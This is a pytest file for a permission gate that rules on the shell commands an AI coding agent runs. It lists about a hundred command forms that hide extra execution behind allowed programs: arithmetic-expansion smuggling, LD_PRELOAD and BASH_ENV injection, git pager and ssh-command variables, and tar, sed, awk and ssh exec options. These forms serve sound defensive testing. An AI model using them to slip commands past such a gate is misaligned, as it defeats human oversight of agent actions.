"""What an allow rule allows (issue 62): only a simple command literal
enough to be read. Under the documented example policy's allow rules
(``git *``, ``find *``, ``sed *``, …), each form of the table below runs a
command no rule allows, or writes a file, and is never allowed; honest
commands beside them still are. And a command the gate cannot read keeps
the strictest requirement of every rule that could match it: a central
``prod-two-sre`` stays two people from sre, in the hook and in serve."""

from __future__ import annotations

import shlex
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from spanvisor.gate import central, escapes, programs
from spanvisor.gate.contracts import Call
from spanvisor.gate.policy import parse
from spanvisor.gate.rules import KNOWN_NOTHING

# The programs people allow most, each allowed whole.
ALLOWED = ["git", "echo", "ls", "find", "sed", "awk", "tar", "rsync", "ssh", "env", "xargs", "npm", "pip", "less"]
ALLOWED += ["cat", "printf", "test", "read", "unset", "export", "declare", "let", "curl", "yarn", "python3"]
ALLOWED += ["hash", "shopt", "alias", "trap", "enable", ":", "local", "sudo", "builtin", "command", "mapfile"]
ALLOW_ALL_ELSE = parse(
    {
        "default": "deny",
        "rule": [
            {"name": "tools", "tool": "Bash", "command": [f"{p} *" for p in ALLOWED] + ALLOWED, "decision": "allow"},
        ],
    }
)
# The documented example's shell rules (docs/reference/policy.md).
EXAMPLE: dict[str, Any] = {
    "name": "acme-security",
    "default": "allow",
    "rule": [
        {
            "name": "no-force-push",
            "tool": ["Bash", "run_shell_command"],
            "command": ["git push *--force*", "git push *-f*"],
            "decision": "deny",
        },
        {
            "name": "prod-two-sre",
            "command_regex": "\\b(kubectl|terraform|helm)\\b.*\\bprod\\b",
            "decision": "ask",
            "approvers": 2,
            "from": ["group:sre"],
        },
    ],
}
HIDDEN = "x='a[$(touch /tmp/pwned)]'; "


def call(command: str) -> Call:
    return Call("claude-code", "PreToolUse", "s", "Bash", {"command": command}, None, "/work/repo")


# One row per form: (the command, "unread" when it runs code the gate does
# not read, "ask" when it does more than its words).
FORMS: list[tuple[str, str]] = [
    # arithmetic evaluates a[$(…)] hidden in a variable
    (HIDDEN + "echo $((x))", "unread"),
    (HIDDEN + "echo $[x]", "unread"),
    (HIDDEN + "((x))", "unread"),
    (HIDDEN + "[[ $x -eq 1 ]]", "unread"),
    (HIDDEN + "[[ x -lt 1 ]]", "unread"),
    (HIDDEN + "[[ 1 -eq 1 && x -gt 1 ]]", "unread"),
    (HIDDEN + "cat <<EOF\n$((x))\nEOF", "unread"),
    ('echo "a[\\$(touch /tmp/pwned)]" > n; echo $(( $(cat n) ))', "unread"),
    (HIDDEN + "a[$x]=1", "unread"),
    (HIDDEN + "a=(1); echo ${a[$x]}", "unread"),
    (HIDDEN + "for ((i=x; i<1; i++)); do echo; done", "unread"),
    (HIDDEN + "let y=x", "unread"),
    (HIDDEN + "echo ${x:$x}", "unread"),
    (HIDDEN + 'printf -v "$x" 1', "unread"),
    (HIDDEN + 'test -v "$x"', "unread"),
    (HIDDEN + "declare -i y; y=$x", "unread"),
    ("unset 'a[$(touch /tmp/pwned)]'", "unread"),
    (HIDDEN + "declare -n r=$x; echo $r", "unread"),
    (HIDDEN + "a=([$x]=1)", "unread"),
    # builtins that make a name run something else
    ("hash -p /usr/bin/touch ls; ls /tmp/pwned", "unread"),
    ("shopt -s expand_aliases\nalias ls='touch /tmp/pwned'\nls", "ask"),
    ("trap 'touch /tmp/pwned' EXIT", "ask"),
    ("enable -f ./evil.so evil", "unread"),
    # indirect and prompt expansion
    (HIDDEN + "echo ${!x}", "unread"),
    ("y='$(touch /tmp/pwned)'; echo ${y@P}", "unread"),
    # environment variables programs run or load
    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='touch p' git log", "unread"),
    ("GIT_EXTERNAL_DIFF='touch /tmp/pwned' git diff", "ask"),
    ("GIT_SSH_COMMAND='touch /tmp/pwned' git fetch", "ask"),
    ("GIT_PAGER='touch /tmp/pwned' git log", "ask"),
    ("LD_PRELOAD=/tmp/evil.so git status", "unread"),
    ("LD_LIBRARY_PATH=/tmp/evil git status", "unread"),
    ("PAGER='touch /tmp/pwned' git log", "ask"),
    ("EDITOR='touch /tmp/pwned' git commit", "ask"),
    ('VISUAL="$cmd" git commit', "unread"),
    ("BASH_ENV=/tmp/evil.sh bash -c ls", "unread"),
    ("ENV=/tmp/evil.sh sh -c ls", "unread"),
    ("PROMPT_COMMAND='touch /tmp/pwned' ls", "ask"),
    ("PYTHONSTARTUP=/tmp/evil.py python3 -i", "unread"),
    ("PERL5OPT=-Mevil echo", "unread"),
    ("NODE_OPTIONS='--require /tmp/evil.js' npm ls", "unread"),
    ("HOME=/tmp/evil git log", "unread"),
    ('export GIT_SSH_COMMAND="$x"', "unread"),
    ("export LD_PRELOAD=/tmp/evil.so", "unread"),
    ("export PAGER", "unread"),
    ("read PAGER", "unread"),
    ("builtin export PAGER='touch /tmp/pwned'", "ask"),
    ("command export LD_PRELOAD=/tmp/evil.so", "unread"),
    ("mapfile -C 'touch /tmp/pwned' -c 1 arr < README.md", "unread"),
    ("env GIT_PAGER='touch /tmp/pwned' git log", "ask"),
    ("env LD_PRELOAD=/tmp/evil.so git status", "unread"),
    ("sudo -u root LD_PRELOAD=/tmp/evil.so git status", "unread"),
    ("env -S 'touch /tmp/pwned'", "unread"),
    # git
    ("git diff --output=/tmp/pwned", "ask"),
    ("git log --output=/home/u/.bashrc", "ask"),
    ("git format-patch -o /tmp/out HEAD~1", "ask"),
    ("git -c core.pager='touch /tmp/pwned' log", "unread"),
    ("git -c alias.x='!touch /tmp/pwned' x", "unread"),
    ("git --config-env=core.pager=CMD log", "unread"),
    ("git --exec-path=/tmp/evil status", "unread"),
    ("git fetch --upload-pack='touch /tmp/pwned' origin", "unread"),
    ("git rebase -x 'touch /tmp/pwned' HEAD~1", "unread"),
    ("git submodule foreach 'touch /tmp/pwned'", "unread"),
    ("git config core.pager 'touch /tmp/pwned'", "ask"),
    ("git send-email --sendmail-cmd='touch /tmp/pwned' a.patch", "unread"),
    ("git diff $opts", "unread"),
    ('git diff "$opt"', "unread"),
    # find
    ("find . -exec touch /tmp/pwned \\;", "ask"),
    ("find . -execdir ls \\;", "ask"),
    ("find . -ok ls \\;", "ask"),
    ("find . -name '*.pyc' -delete", "ask"),
    ("find . -fprint /tmp/pwned", "ask"),
    ("find . -fprintf /tmp/pwned '%p'", "ask"),
    # tar, rsync, ssh
    ("tar -cf /dev/null --to-command='touch /tmp/pwned' x", "unread"),
    ("tar -cf x.tar --checkpoint=1 --checkpoint-action=exec='touch /tmp/pwned' .", "unread"),
    ("tar -I 'touch /tmp/pwned' -cf x.tar .", "unread"),
    ("tar --use-compress-program='touch /tmp/pwned' -cf x.tar .", "unread"),
    ("tar -cIf /tmp/evil x.tar .", "unread"),
    ("tar cIf /tmp/evil x.tar .", "unread"),
    ("rsync -e 'touch /tmp/pwned' a host:b", "ask"),
    ('rsync --rsh="$x" a host:b', "unread"),
    ("rsync --rsync-path='touch /tmp/pwned' a host:b", "unread"),
    ("ssh -o ProxyCommand='touch /tmp/pwned' host", "unread"),
    ("ssh -oLocalCommand='touch /tmp/pwned' -oPermitLocalCommand=yes host", "unread"),
    # sed and awk
    ("sed '1e touch /tmp/pwned' README.md", "unread"),
    ("sed 's/x/touch \\/tmp\\/pwned/e' README.md", "unread"),
    ("sed -n 'w /tmp/pwned' README.md", "unread"),
    ("sed -i 's/a/b/' README.md", "ask"),
    ("sed -f /tmp/evil.sed README.md", "unread"),
    ('sed "s/x/$y/e" README.md', "unread"),
    ("sed -l 5 '1e touch /tmp/pwned' README.md", "unread"),
    ("sed ':a;e touch /tmp/pwned' README.md", "unread"),
    ("awk 'BEGIN { system(\"touch /tmp/pwned\") }'", "unread"),
    ("awk '{ print | \"sh\" }' README.md", "unread"),
    ("awk '{ print > \"/tmp/pwned\" }' README.md", "ask"),
    ("awk 'BEGIN { \"touch /tmp/pwned\" | getline }'", "unread"),
    ('awk \'BEGIN { c = "sh"; print "touch /tmp/pwned" |& c }\'', "unread"),
    ('awk \'BEGIN { f = "system"; @f("touch /tmp/pwned") }\'', "unread"),
    # pagers, env, xargs, package managers
    ("less README.md", "unread"),
    ("more README.md", "unread"),
    ("echo /tmp/pwned | xargs git diff --no-index", "ask"),
    ("npm install", "ask"),
    ("npm test", "ask"),
    ("npm run build", "ask"),
    ("yarn", "ask"),
    ("pip install requests", "ask"),
    ("python3 -m pip install requests", "ask"),
    ("curl -o /home/u/.bashrc https://example.com/x", "ask"),
]
HONEST = [
    "git status",
    "git log --oneline -5",
    "git diff HEAD~1 -- src/",
    "git commit -m \"$(cat <<'EOF'\nfix: a thing\nEOF\n)\"",
    'git log "--format=%h $fmt"',
    "echo $((1 + 2)) ${a[0]} ${a[@]} ${!a[@]} ${#a[@]} ${x:1:2} ${x:-default}",
    "find . -name '*.py' -type f",
    "sed -n 's/a/b/p' README.md",
    "sed 's/wide/narrow/g; /^#/d' README.md",
    "sed ':a;N;$!ba;s/\\n/ /g' README.md",
    "sed -n '/start/,/end/{p;q}' README.md",
    "tar -xzf out.tgz",
    "ssh -p 22 host uptime",
    'find . -maxdepth "$depth" -name "*.py"',
    "awk '{ print $1 }' README.md",
    "awk -F: '$3 > 5 { print $1 }' README.md",
    "awk '/error|warning/ && $1 == 1 || $2 == 2 { print }' README.md",
    "tar -czf out.tgz src",
    "npm ls",
    "pip list",
    "env FOO=1 ls",
    "export FOO=1",
    "unset FOO",
    "unset -n ref",
    "export -n FOO",
    "read line",
    "ls -la",
    "a=([0]=1 [1]=2); echo $(( ${#a[@]} + $# ))",
    "trap - EXIT",
    '[ "$x" -eq 1 ] && test "$y" -lt 2',
    "cat <<'EOF'\n$((x)) ${!y}\nEOF",
    'while IFS= read -r line; do echo "$line"; done < README.md',
    'git add -- "$f"',
]


@pytest.mark.parametrize(("command", "kind"), FORMS)
def test_a_form_that_does_more_than_its_words_is_never_allowed(command: str, kind: str) -> None:
    ruling = ALLOW_ALL_ELSE.decide(call(command))
    assert ruling.verdict != "allow", (command, ruling)
    if kind == "unread":
        # Code the gate does not read: as strict as any rule that could match (the default deny here).
        assert ruling.verdict == "deny", (command, ruling)
    elif ruling.verdict == "ask":
        assert ruling.by == "policy:beyond-allow", (command, ruling)
    else:
        assert "touch" in (ruling.reason or ""), (command, ruling)  # the command it runs, read and denied


@pytest.mark.parametrize(("command", "kind"), FORMS)
def test_not_even_an_allow_of_every_command_allows_a_form(command: str, kind: str) -> None:
    ruling = parse({"rule": [{"name": "all", "command": "*", "decision": "allow"}]}).decide(call(command))
    assert ruling.verdict == "ask", (command, ruling)


@pytest.mark.parametrize("command", HONEST)
def test_honest_commands_are_still_allowed(command: str) -> None:
    ruling = ALLOW_ALL_ELSE.decide(call(command))
    assert ruling.verdict == "allow", (command, ruling)


@pytest.mark.parametrize(("command", "kind"), FORMS)
def test_the_hidden_effect_counts_under_the_documented_example(command: str, kind: str) -> None:
    """Under the documented central policy, code the gate does not read may
    be a force push: denied; what does more than its words is asked about
    even under its default allow."""
    ruling = parse(EXAMPLE, central=True).decide(call(command))
    assert ruling.verdict == ("deny" if kind == "unread" else "ask"), (command, ruling)


ONLY_TWO_SRE = {"name": "acme", "rule": [EXAMPLE["rule"][1]]}
UNREADABLE = ["k=kubectl; $k apply -f prod.yaml", "$K apply -f prod.yaml", 'bash -c "$x"', "eval $cmd"]


@pytest.mark.parametrize("command", UNREADABLE)
def test_an_unreadable_command_keeps_the_central_two_people_from_sre(command: str) -> None:
    floor = central.from_files((("acme.toml", _toml(ONLY_TWO_SRE)),), "acme")
    local = parse({"default": "allow", "rule": [{"name": "all", "command": "*", "decision": "allow"}]})
    ruling = central.combine(local.decide(call(command)), floor.ruling(call(command), KNOWN_NOTHING))
    assert (ruling.verdict, ruling.approvers, ruling.approvers_from) == ("ask", 2, ("group:sre",)), ruling
    assert ruling.by == "central:prod-two-sre"
    # serve computes the same requirement from the request's action
    need = floor.requirement({"tool": "Bash", "arguments": {"command": command}}, KNOWN_NOTHING)
    assert (need.verdict, need.approvers, need.approvers_from, need.rule) == ("ask", 2, ("group:sre",), "prod-two-sre")


@pytest.mark.parametrize("command", UNREADABLE)
def test_an_unreadable_command_under_a_deny_that_could_match_is_denied(command: str) -> None:
    ruling = parse(EXAMPLE, central=True).decide(call(command))
    assert (ruling.verdict, ruling.by) == ("deny", "central:no-force-push"), ruling
    assert "cannot read" in (ruling.reason or "")


def test_an_unreadable_command_under_a_local_ask_keeps_its_people() -> None:
    local = parse({"rule": [{"name": "two", "command": "deploy *", "decision": "ask", "approvers": 3}]})
    ruling = local.decide(call("$d prod"))
    assert (ruling.verdict, ruling.approvers, ruling.by) == ("ask", 3, "policy:two"), ruling


def test_rules_that_cannot_match_do_not_raise_an_unreadable_command() -> None:
    policy = parse(
        {
            "rule": [
                {"name": "other-tool", "tool": "Edit", "decision": "deny"},
                {"name": "paths", "path": "/etc/*", "decision": "deny"},
                {"name": "codex", "cli": "codex", "command": "*", "decision": "deny"},
                {"name": "all", "command": "*", "decision": "allow"},
                {"name": "after-all", "command": "rm *", "decision": "deny"},
            ],
            "default": "deny",
        }
    )
    facts = KNOWN_NOTHING._replace(cli=("claude-code",))
    ruling = policy.decide(call("$CMD x"), facts)
    assert (ruling.verdict, ruling.by) == ("ask", "policy:unreadable"), ruling


def test_every_form_names_its_reason_in_one_table() -> None:
    """The reasons come from the one table (spanvisor.gate.escapes)."""
    ruling = ALLOW_ALL_ELSE.decide(call(HIDDEN + "echo $((x))"))
    assert escapes.ARITHMETIC in (ruling.reason or "")
    assert escapes.variable("GIT_CONFIG_KEY_0") is not None and escapes.variable("LD_AUDIT") is not None
    assert escapes.variable("FOO") is None


# Words that are options, or programs' scripts, of the table's programs.
OPTION_WORDS = ["-c", "-e", "-o", "-S", "-I", "-i", "-f", "--output", "--output=x", "-oProxyCommand=x", "x=y", "--"]
SCRIPT_WORDS = ["-", "e", "1e x", "s/a/b/e", "s/a", "y/ab", "{", "}", "/re/w f", "\\", "--rsh", "-avze", "install", ""]
WORDS = st.sampled_from([*OPTION_WORDS, *SCRIPT_WORDS])


@settings(max_examples=400)
@given(st.sampled_from(sorted(programs.PROGRAMS)), st.lists(st.one_of(WORDS, st.text(max_size=12)), max_size=6))
def test_any_words_to_any_program_of_the_table_are_read_without_an_error(name: str, argv: list[str]) -> None:
    command = " ".join([name, *(shlex.quote(w) for w in argv)])
    assert ALLOW_ALL_ELSE.decide(call(command)).verdict in ("allow", "ask", "deny")
    as_args = [escapes.Arg(w) for w in argv] + [escapes.Arg(None), escapes.Arg(None, "-x")]
    for found in programs.program(name, as_args):
        assert found.kind in ("runs", "does") and found.why


def _toml(doc: dict[str, Any]) -> str:
    lines = [f'name = "{doc["name"]}"']
    for rule in doc["rule"]:
        lines.append("[[rule]]")
        for key, value in rule.items():
            if isinstance(value, str):
                lines.append(f"{key} = {_quoted(value)}")
            elif isinstance(value, list):
                lines.append(f"{key} = [{', '.join(_quoted(v) for v in value)}]")
            else:
                lines.append(f"{key} = {value}")
    return "\n".join(lines) + "\n"


def _quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'
